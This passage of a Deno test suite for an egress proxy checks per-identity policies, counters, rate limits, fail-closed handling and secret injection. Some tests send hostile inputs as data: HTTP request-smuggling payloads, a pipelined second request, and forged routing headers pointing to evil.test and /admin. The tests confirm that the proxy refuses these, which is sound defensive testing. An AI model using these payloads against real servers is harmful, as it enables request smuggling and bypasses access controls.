  assert.deepEqual([refusal.bytesUp, refusal.bytesDown], [0, 0]);
});

Deno.test("egress proxy counts each identity's connections and bytes as its audit lines sum them", async () => {
  const ca = await testCa();
  await using api = await startUpstream({ name: "api.test", ca });
  await using proxy = await startEgressProxy();
  for (const id of ["s-a", "s-b"]) {
    await proxy.writePolicy(id, {
      allow: [nameEntry("api.test", api.port)],
      addresses: LOOPBACK,
      hosts: { "api.test": api.hostname },
    });
  }
  await proxy.sync();
  const counts = async (command: string): Promise<Record<string, number>> =>
    JSON.parse(await controlCall(proxy.paths, command));
  assert.deepEqual(await counts("stats s-a"), { allowed: 0, denied: 0, bytesUp: 0, bytesDown: 0 });
  const url = await proxy.bridge("s-a");
  for (const size of [1000, 50_000]) {
    assertCurlOk(
      await curl(url, `${api.url}/bytes/${size}`, {
        cacert: proxy.upstreamCaFile,
        args: ["-o", "/dev/null"],
      }),
    );
  }
  const denied = await curl(url, `https://nowhere.test:${api.port}/`, {
    cacert: proxy.upstreamCaFile,
  });
  assert.notEqual(denied.code, 0);
  const lines = await waitForCount(proxy, () => true, 3);
  const sum = (key: "bytesUp" | "bytesDown"): number =>
    lines.reduce((total, line) => total + line[key], 0);
  const mine = await counts("stats s-a");
  assert.deepEqual(mine, {
    allowed: 2,
    denied: 1,
    bytesUp: sum("bytesUp"),
    bytesDown: sum("bytesDown"),
  });
  assert.ok(mine.bytesDown! >= 51_000);
  // Another identity counted nothing; the totals are the sum of all.
  assert.deepEqual(await counts("stats s-b"), { allowed: 0, denied: 0, bytesUp: 0, bytesDown: 0 });
  assert.deepEqual(await counts("stats"), mine);
  await assert.rejects(controlCall(proxy.paths, "stats s-none"), /unknown identity/);
});

Deno.test("egress proxy applies a rewritten policy to the next connection, and fails closed on a bad one", async () => {
  const ca = await testCa();
  await using api = await startUpstream({ name: "api.test", ca });
  const { proxy, url } = await proxyFor([api]);
  await using _proxy = proxy;
  const allowing = {
    allow: [nameEntry("api.test", api.port)],
    addresses: LOOPBACK,
    hosts: { "api.test": api.hostname },
  };
  const get = (): Promise<CurlResult> => curl(url, `${api.url}/`, { cacert: proxy.upstreamCaFile });

  assertCurlOk(await get());
  await proxy.writePolicy("s-a", { ...allowing, allow: [] });
  const removed = await get();
  assert.match(removed.stderr, /403/);
  assert.equal(api.connections, 1);
  await proxy.writePolicy("s-a", allowing);
  assertCurlOk(await get());
  assert.equal(api.connections, 2);

  const bad = [
    async (): Promise<void> => await proxy.writePolicyText("s-a", "{ not json"),
    async (): Promise<void> =>
      await proxy.writePolicyText("s-a", JSON.stringify({ version: 2, id: "s-a" })),
    async (): Promise<void> => {
      // Unreadable: a directory where the file should be.
      await Deno.mkdir(`${proxy.paths.policies}/s-a.json`);
    },
  ];
  for (const [index, breakIt] of bad.entries()) {
    await breakIt();
    const refused = await get();
    assert.notEqual(refused.code, 0);
    const answer = await rawExchange(
      url,
      `CONNECT api.test:${api.port} HTTP/1.1\r\nHost: api.test:${api.port}\r\n\r\n`,
    );
    // Refused (the status is the proxy's choice), the reason in the audit.
    assert.ok(statusOf(answer) >= 400 && statusOf(answer) < 600, answer);
    const problems = await waitForCount(
      proxy,
      (l) => /Cannot read policy/.test(l.reason ?? ""),
      2 * (index + 1),
    );
    const line = problems[2 * index]!;
    assert.equal(line.decision, "denied");
    assert.equal(line.destination, null);
    await proxy.removePolicy("s-a");
  }
  assert.equal(api.connections, 2);
  await proxy.writePolicy("s-a", allowing);
  assertCurlOk(await get());
});

Deno.test("egress proxy applies a rewritten policy even when the file's mtime did not change", async () => {
  const ca = await testCa();
  await using api = await startUpstream({ name: "api.test", ca });
  const { proxy, url } = await proxyFor([api]);
  await using _proxy = proxy;
  const file = `${proxy.paths.policies}/s-a.json`;
  const get = (): Promise<CurlResult> => curl(url, `${api.url}/`, { cacert: proxy.upstreamCaFile });
  assertCurlOk(await get());
  // Two writes within one tick of the file system's clock: the second has the first's mtime.
  const { mtime } = await Deno.stat(file);
  await proxy.writePolicy("s-a", { allow: [], addresses: LOOPBACK });
  await Deno.utime(file, mtime!, mtime!);
  const refused = await get();
  assert.match(refused.stderr, /403/);
  assert.equal(api.connections, 1);
});

Deno.test("egress proxy refuses connections over max_connections with 429, per identity", async () => {
  const ca = await testCa();
  await using api = await startUpstream({ name: "api.test", ca });
  await using proxy = await startEgressProxy();
  const policy = {
    allow: [nameEntry("api.test", api.port)],
    addresses: LOOPBACK,
    hosts: { "api.test": api.hostname },
    maxConnections: 4,
  };
  await proxy.writePolicy("s-a", policy);
  await proxy.writePolicy("s-b", { ...policy, identity: identityOf("bob") });
  await proxy.sync();
  const a = await proxy.bridge("s-a");
  const b = await proxy.bridge("s-b");

  const slow = Array.from(
    { length: 4 },
    () => curl(a, `${api.url}/slow/3000`, { cacert: proxy.upstreamCaFile }),
  );
  try {
    await until(() => api.requests.length >= 4, "four slow requests upstream");
    const fifth = await rawExchange(
      a,
      `CONNECT api.test:${api.port} HTTP/1.1\r\nHost: api.test:${api.port}\r\n\r\n`,
    );
    assert.equal(statusOf(fifth), 429, fifth);
    assert.equal(api.connections, 4);
    // The other identity has connections of its own.
    const meanwhile = await curl(b, `${api.url}/b`, { cacert: proxy.upstreamCaFile });
    assertCurlOk(meanwhile);
    assert.ok(meanwhile.ms < 2500, `took ${meanwhile.ms} ms`);
  } finally {
    for (const result of await Promise.all(slow)) assertCurlOk(result);
  }
  const line = await proxy.waitForAudit((l) => /max_connections/.test(l.reason ?? ""));
  assert.equal(line.user, "alice");
  assert.equal(line.decision, "denied");
  assert.match(line.reason ?? "", /Over max_connections \(4\)/);
  // Once they closed, a fifth is fine again.
  assertCurlOk(await curl(a, `${api.url}/again`, { cacert: proxy.upstreamCaFile }));
});

Deno.test("egress proxy holds an identity to bytesPerSecond and leaves another unthrottled", async () => {
  const ca = await testCa();
  await using api = await startUpstream({ name: "api.test", ca });
  await using proxy = await startEgressProxy();
  const policy = {
    allow: [nameEntry("api.test", api.port)],
    addresses: LOOPBACK,
    hosts: { "api.test": api.hostname },
  };
  await proxy.writePolicy("s-slow", { ...policy, bytesPerSecond: 200_000 });
  await proxy.writePolicy("s-fast", { ...policy, identity: identityOf("bob") });
  await proxy.sync();
  const slowUrl = await proxy.bridge("s-slow");
  const fastUrl = await proxy.bridge("s-fast");
  const download = (url: string): Promise<CurlResult> =>
    curl(url, `${api.url}/bytes/600000`, {
      cacert: proxy.upstreamCaFile,
      args: ["-o", "/dev/null", "--write-out", "%{size_download} "],
    });
  const slowRun = download(slowUrl);
  const fast = await download(fastUrl);
  const slow = await slowRun;
  for (const run of [slow, fast]) {
    assert.equal(run.code, 0, run.stderr);
    assert.equal(run.stdout.trim(), "600000");
  }
  assert.ok(slow.ms >= 1500, `the throttled download took ${slow.ms} ms`);
  assert.ok(fast.ms < 1500, `the unthrottled download took ${fast.ms} ms`);
});

Deno.test("egress proxy keeps identities apart: each socket its own policy and audit identity", async () => {
  const ca = await testCa();
  await using api = await startUpstream({ name: "api.test", ca });
  await using other = await startUpstream({ name: "other.test", ca, hostname: "127.0.0.3" });
  await using proxy = await startEgressProxy();
  const hosts = { "api.test": api.hostname, "other.test": other.hostname };
  await proxy.writePolicy("s-a", {
    allow: [nameEntry("api.test", api.port)],
    addresses: LOOPBACK,
    hosts,
  });
  await proxy.writePolicy("s-b", {
    identity: { tenant: "beta", user: "bob", group: null, cron: null, server: null },
    allow: [nameEntry("other.test", other.port)],
    addresses: LOOPBACK,
    hosts,
  });
  assert.equal(await proxy.sync(), "2");
  const a = await proxy.bridge("s-a");
  const b = await proxy.bridge("s-b");
  const opts = { cacert: proxy.upstreamCaFile };

  assertCurlOk(await curl(a, `${api.url}/a`, opts));
  assert.match((await curl(a, `${other.url}/a`, opts)).stderr, /403/);
  assertCurlOk(await curl(b, `${other.url}/b`, opts));
  assert.match((await curl(b, `${api.url}/b`, opts)).stderr, /403/);
  assert.deepEqual([api.connections, other.connections], [1, 1]);

  const lines = await waitForCount(proxy, () => true, 4);
  const seen = lines.map((l) => `${l.tenant}/${l.user} ${l.destination} ${l.decision}`).sort();
  assert.deepEqual(seen, [
    "beta/bob api.test denied",
    "beta/bob other.test allowed",
    "default/alice api.test allowed",
    "default/alice other.test denied",
  ]);
});

Deno.test("egress proxy's sync opens a socket for a new policy file and closes one whose file went", async () => {
  const ca = await testCa();
  await using api = await startUpstream({ name: "api.test", ca });
  await using proxy = await startEgressProxy();
  assert.equal(await proxy.sync(), "0");
  await proxy.writePolicy("s-late", {
    allow: [nameEntry("api.test", api.port)],
    addresses: LOOPBACK,
    hosts: { "api.test": api.hostname },
  });
  const socket = proxy.socket("s-late");
  await assert.rejects(Deno.connect({ transport: "unix", path: socket }));
  assert.equal(await proxy.sync(), "1");
  const url = await proxy.bridge("s-late");
  assertCurlOk(await curl(url, `${api.url}/`, { cacert: proxy.upstreamCaFile }));

  await proxy.removePolicy("s-late");
  assert.equal(await proxy.sync(), "0");
  await assert.rejects(async () => {
    const conn = await Deno.connect({ transport: "unix", path: socket });
    conn.close();
  });
  const after = await curl(url, `${api.url}/`, { cacert: proxy.upstreamCaFile });
  assert.notEqual(after.code, 0);
  assert.ok(after.ms < 5000, `took ${after.ms} ms`);
  assert.equal(api.connections, 1);
});

Deno.test("egress bridge fails closed at once while the proxy is stopped", async () => {
  const ca = await testCa();
  await using api = await startUpstream({ name: "api.test", ca });
  const { proxy, url } = await proxyFor([api]);
  await using _proxy = proxy;
  assertCurlOk(await curl(url, `${api.url}/`, { cacert: proxy.upstreamCaFile }));
  await proxy.stop();

  const started = performance.now();
  const conn = await Deno.connect({ hostname: "127.0.0.1", port: portOf(url) });
  try {
    await conn.write(new TextEncoder().encode(`CONNECT api.test:${api.port} HTTP/1.1\r\n\r\n`))
      .catch(() => {});
    assert.equal(await readAll(conn, 5000), "");
  } finally {
    tryClose(conn);
  }
  assert.ok(performance.now() - started < 3000, "closed at once");
  const viaCurl = await curl(url, `${api.url}/`, { cacert: proxy.upstreamCaFile });
  assert.notEqual(viaCurl.code, 0);
  assert.ok(viaCurl.ms < 3000, `took ${viaCurl.ms} ms`);
  assert.equal(api.connections, 1);
});

Deno.test("egress proxy survives clients that hang up while it refuses them", async () => {
  const ca = await testCa();
  await using api = await startUpstream({ name: "api.test", ca });
  const { proxy, url } = await proxyFor([api], { id: "s-ok" });
  await using _proxy = proxy;
  await proxy.writePolicyText("s-bad", "{ not json");
  await proxy.writePolicy("s-full", {
    allow: [nameEntry("api.test", api.port)],
    addresses: LOOPBACK,
    hosts: { "api.test": api.hostname },
    maxConnections: 1,
  });
  assert.equal(await proxy.sync(), "3");
  // s-full's one connection: a tunnel waiting for its ClientHello.
  const held = await Deno.connect({ transport: "unix", path: proxy.socket("s-full") });
  try {
    await held.write(new TextEncoder().encode(`CONNECT api.test:${api.port} HTTP/1.1\r\n\r\n`));
    assert.equal(statusOf(await readHeadOnly(held)), 200);
    // Each refusal is written to a client already gone (EPIPE).
    for (const id of ["s-bad", "s-full"]) {
      for (let i = 0; i < 100; i++) {
        (await Deno.connect({ transport: "unix", path: proxy.socket(id) })).close();
      }
    }
    await waitForCount(proxy, (l) => l.decision === "denied", 200);
    assertCurlOk(await curl(url, `${api.url}/still-there`, { cacert: proxy.upstreamCaFile }));
  } finally {
    tryClose(held);
  }
});

// A TLS tunnel to the proxy through its bridge, the client side made by node:tls
// over the tunnel's bytes (so the test can drop the raw socket mid-request).
function secretTunnel(
  port: number,
  target: string,
  ca: string,
): Promise<{ raw: net.Socket; secure: tls.TLSSocket | undefined; status: string }> {
  return new Promise((resolve, reject) => {
    const raw = net.connect({ host: "127.0.0.1", port });
    raw.on("error", () => {});
    raw.once("connect", () => raw.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`));
    raw.once("data", (head) => {
      const status = String(head).split("\r\n")[0]!;
      if (!status.includes(" 200 ")) return resolve({ raw, secure: undefined, status });
      const duplex = new Duplex({
        read(): void {},
        write(chunk, _encoding, done): void {
          raw.write(chunk, done);
        },
      });
      raw.on("data", (chunk) => duplex.push(chunk));
      raw.on("end", () => duplex.push(null));
      const secure = tls.connect({
        socket: duplex as unknown as net.Socket,
        servername: target.split(":")[0],
        ca,
      });
      secure.on("error", () => {});
      const timer = setTimeout(() => reject(new Error("No TLS within 5 s")), 5000);
      secure.once("secureConnect", () => {
        clearTimeout(timer);
        resolve({ raw, secure, status });
      });
    });
  });
}

Deno.test("egress proxy gives a connection's slot back when its client leaves while the upstream is still being reached", async () => {
  const ca = await testCa();
  await using secret = await startUpstream({ name: "secret.test", ca, hostname: "127.0.0.2" });
  // The secret host 300 ms away, as a real one is tens to hundreds of ms away.
  const relay = net.createServer((client) => {
    client.on("error", () => {});
    client.pause();
    setTimeout(() => {
      const upstream = net.connect({ host: secret.hostname, port: secret.port });
      upstream.on("error", () => client.destroy());
      client.on("close", () => upstream.destroy());
      upstream.on("close", () => client.destroy());
      client.pipe(upstream);
      upstream.pipe(client);
      client.resume();
    }, 300);
  });
  await new Promise<void>((resolve) => relay.listen(0, "127.0.0.6", () => resolve()));
  try {
    const relayPort = (relay.address() as net.AddressInfo).port;
    await using proxy = await startEgressProxy();
    const max = 3;
    await proxy.writePolicy("s-a", {
      allow: [nameEntry("secret.test", relayPort)],
      addresses: LOOPBACK,
      hosts: { "secret.test": "127.0.0.6" },
      maxConnections: max,
      secrets: [SECRET],
    });
    await proxy.sync();
    const port = portOf(await proxy.bridge("s-a"));
    const target = `secret.test:${relayPort}`;
    for (let i = 0; i < max; i++) {
      const { raw, secure } = await secretTunnel(port, target, proxy.ca.cert);
      secure?.write(`GET /left${i} HTTP/1.1\r\nHost: secret.test\r\n\r\n`);
      await delay(50); // the proxy is now reaching the upstream
      raw.destroy();
    }
    // Every one of them ends (and is audited) once the upstream answers.
    await waitForCount(proxy, (line) => line.destination === "secret.test", max);
    const fresh = await secretTunnel(port, target, proxy.ca.cert);
    assert.equal(fresh.status, "HTTP/1.1 200 Connection established");
    fresh.raw.destroy();
  } finally {
    relay.close();
  }
});

Deno.test("egress proxy keeps refusals and audit lines short whatever the client sends", async () => {
  await using proxy = await startEgressProxy();
  await proxy.writePolicy("s-a", { allow: [nameEntry("api.test", 443)] });
  await proxy.sync();
  const url = await proxy.bridge("s-a");
  const huge = "\x01".repeat(8000);
  const response = await rawExchange(url, `CONNECT ${huge}:443 HTTP/1.1\r\nHost: x\r\n\r\n`);
  assert.ok(response.length < 600, `a ${response.length}-byte refusal`);
  assert.equal(statusOf(response), 400);
  const lines = await waitForCount(proxy, (line) => line.method === "CONNECT", 1);
  const text = JSON.stringify(lines.at(-1));
  assert.ok(text.length < 1200, `a ${text.length}-byte audit line`);
  assert.doesNotMatch(text, /\\u0001/);
});

// An upstream that records every byte one connection brings until the
// proxy closes it: what the proxy sent on, whatever an HTTP server would
// have made of it. It answers 200 once `answerAfter` has arrived (else at
// the proxy's end of the connection).
async function recordingUpstream(
  options: { hostname: string; leaf?: CertifiedKey; answerAfter?: string },
): Promise<{ port: number; received: Promise<string>; [Symbol.asyncDispose](): Promise<void> }> {
  let settle: (text: string) => void = () => {};
  const received = new Promise<string>((resolve) => (settle = resolve));
  const onSocket = (socket: net.Socket): void => {
    let text = "";
    let answered = false;
    const answer = (): void => {
      if (answered) return;
      answered = true;
      socket.end("HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
    };
    socket.on("error", () => {});
    socket.setEncoding("latin1");
    socket.on("data", (chunk: string) => {
      text += chunk;
      if (options.answerAfter !== undefined && text.includes(options.answerAfter)) answer();
    });
    socket.once("end", answer);
    socket.once("close", () => settle(text));
  };
  const server = options.leaf === undefined
    ? net.createServer({ allowHalfOpen: true }, onSocket)
    : tls.createServer({ ...options.leaf, allowHalfOpen: true }, onSocket);
  await new Promise<void>((resolve) => server.listen(0, options.hostname, resolve));
  return {
    port: (server.address() as net.AddressInfo).port,
    received,
    [Symbol.asyncDispose]: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

Deno.test("egress proxy refuses ambiguous body framing with 400 (audited denied) and dials nothing", async () => {
  await using upstream = await recordingUpstream({ hostname: "127.0.0.6" });
  await using proxy = await startEgressProxy();
  await proxy.writePolicy("s-a", {
    allow: [nameEntry("plain.test", upstream.port)],
    addresses: LOOPBACK,
    hosts: { "plain.test": "127.0.0.6" },
  });
  await proxy.sync();
  const url = await proxy.bridge("s-a");
  const target = `http://plain.test:${upstream.port}/x`;
  const cases: [string, RegExp][] = [
    [
      "Transfer-Encoding: chunked\r\nContent-Length: 5",
      /both Transfer-Encoding and Content-Length/,
    ],
    ["Content-Length: 5\r\nContent-Length: 5", /2 Content-Length headers/],
    ["Content-Length: 5, 6", /'Content-Length: 5, 6': not a decimal length/],
    ["Transfer-Encoding: chunked, gzip", /'chunked' must be last/],
    ["Content-Length: 5\r\nConnection: content-length", /it names 'content-length'/],
    ["Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding", /'transfer-encoding'/],
    ["Connection: keep-alive, host", /it names 'host'/],
  ];
  for (const [headers, reason] of cases) {
    const answer = await rawExchange(
      url,
      `POST ${target} HTTP/1.1\r\nHost: plain.test:${upstream.port}\r\n${headers}\r\n\r\nhello`,
    );
    assert.equal(statusOf(answer), 400, `${headers}: ${answer}`);
    assert.match(bodyOf(answer), reason);
  }
  const lines = await waitForCount(proxy, (l) => l.destination === null, cases.length);
  assert.ok(
    lines.every((l) => l.decision === "denied" && /^Refused /.test(l.reason ?? "")),
    JSON.stringify(lines),
  );
});

Deno.test("egress proxy forwards exactly one request per http:// connection: a pipelined one after its body never reaches the upstream", async () => {
  for (const framing of ["length", "chunked"]) {
    const last = framing === "length" ? "hello" : "X-Trailer: t\r\n\r\n";
    await using upstream = await recordingUpstream({ hostname: "127.0.0.6", answerAfter: last });
    await using proxy = await startEgressProxy();
    await proxy.writePolicy("s-a", {
      allow: [nameEntry("plain.test", upstream.port)],
      addresses: LOOPBACK,
      hosts: { "plain.test": "127.0.0.6" },
    });
    await proxy.sync();
    const host = `plain.test:${upstream.port}`;
    const body = framing === "length"
      ? "Content-Length: 5\r\n\r\nhello"
      : "Transfer-Encoding: chunked\r\n\r\n5;ext=1\r\nhello\r\n0\r\nX-Trailer: t\r\n\r\n";
    const smuggled = `GET /second HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
    const conn = await Deno.connect({
      hostname: "127.0.0.1",
      port: portOf(await proxy.bridge("s-a")),
    });
    // The second request comes in the same write as the first.
    await conn.write(
      new TextEncoder().encode(
        `POST http://${host}/first HTTP/1.1\r\nHost: ${host}\r\n${body}${smuggled}`,
      ),
    );
    const answer = await readAll(conn);
    tryClose(conn);
    assert.equal(statusOf(answer), 200, answer);
    const received = await upstream.received;
    assert.match(received, /^POST \/first HTTP\/1\.1\r\n/);
    assert.ok(received.endsWith(body.slice(body.indexOf("\r\n\r\n") + 4)), received);
    assert.ok(!received.includes("/second"), `${framing}: ${JSON.stringify(received)}`);
  }
});

Deno.test("egress proxy sends one request per secret's tunnel, without client routing headers, and refuses ambiguous framing inside it", async () => {
  const ca = await testCa();
  await using upstream = await recordingUpstream({
    hostname: "127.0.0.6",
    leaf: await mintLeaf(ca, "secret.test"),
    answerAfter: "hello",
  });
  await using proxy = await startEgressProxy();
  await proxy.writePolicy("s-a", {
    allow: [nameEntry("secret.test", upstream.port)],
    addresses: LOOPBACK,
    hosts: { "secret.test": "127.0.0.6" },
    secrets: [SECRET],
  });
  await proxy.sync();
  const port = portOf(await proxy.bridge("s-a"));
  const target = `secret.test:${upstream.port}`;
  const routing = [
    "Forwarded: host=evil.test",
    "X-Forwarded-Host: evil.test",
    "X-Original-URL: /admin",
    "X-Rewrite-URL: /admin",
    "X-Host: evil.test",
  ];
  {
    const { secure } = await secretTunnel(port, target, proxy.ca.cert);
    assert.ok(secure !== undefined);
    let answer = "";
    secure.setEncoding("latin1");
    secure.on("data", (chunk: string) => void (answer += chunk));
    const ended = new Promise((resolve) => secure.once("end", resolve));
    secure.write(
      `POST /first HTTP/1.1\r\nHost: ${target}\r\nAuthorization: Bearer ${PLACEHOLDER}\r\n` +
        `${routing.join("\r\n")}\r\nContent-Length: 5\r\n\r\nhello` +
        `GET /second HTTP/1.1\r\nHost: ${target}\r\nAuthorization: Bearer ${PLACEHOLDER}\r\n\r\n`,
    );
    await ended;
    secure.destroy();
    assert.equal(statusOf(answer), 200, answer);
    const received = await upstream.received;
    assert.match(received, /^POST \/first HTTP\/1\.1\r\n/);
    assert.match(received, /\r\nAuthorization: Bearer s3cret-value\r\n/);
    assert.ok(received.endsWith("\r\n\r\nhello"), JSON.stringify(received));
    for (const header of routing) {
      assert.ok(!received.includes(header), `${header} reached the upstream`);
    }
  }
  const { secure } = await secretTunnel(port, target, proxy.ca.cert);
  assert.ok(secure !== undefined);
  let answer = "";
  secure.setEncoding("latin1");
  secure.on("data", (chunk: string) => void (answer += chunk));
  const ended = new Promise((resolve) => secure.once("end", resolve));
  secure.write(
    `POST /x HTTP/1.1\r\nHost: ${target}\r\nConnection: content-length\r\nContent-Length: 40\r\n\r\n` +
      `GET /second HTTP/1.1\r\nHost: ${target}\r\n\r\n`,
  );
  await ended;
  secure.destroy();
  assert.equal(statusOf(answer), 400, answer);
  assert.match(bodyOf(answer), /it names 'content-length'/);
  const refused = await proxy.waitForAudit((l) => l.decision === "denied");
  assert.match(refused.reason ?? "", /^Refused 'Connection: content-length'/);
});
